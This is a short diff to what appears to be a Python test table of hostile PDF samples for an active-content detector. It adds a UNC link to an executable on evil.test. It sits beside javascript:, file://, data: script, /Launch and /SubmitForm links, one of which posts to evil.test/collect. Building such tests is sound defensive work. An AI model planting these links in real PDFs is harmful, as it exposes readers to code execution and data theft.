@@ -146,6 +146,7 @@ ACTIVE = {
     "link_javascript_uri": lambda: samples.pdf_with_link("javascript:app.alert(1)"),
     "link_obfuscated_javascript_uri": lambda: samples.pdf_with_link(" JaVa\tScRiPt:app.alert(1)"),
     "link_file_uri": lambda: samples.pdf_with_link("file:///C:/Windows/System32/calc.exe"),
+    "link_unc_uri": lambda: samples.pdf_with_link("\\\\evil.test\\share\\x.exe"),
     "link_data_uri": lambda: samples.pdf_with_link("data:text/html,<script>alert(1)</script>"),
     "link_launch": lambda: samples.pdf_with_link("calc.exe", subtype="/Launch", key="/F"),
     "link_submit_form": lambda: samples.pdf_with_link("https://evil.test/collect", subtype="/SubmitForm", key="/F"),
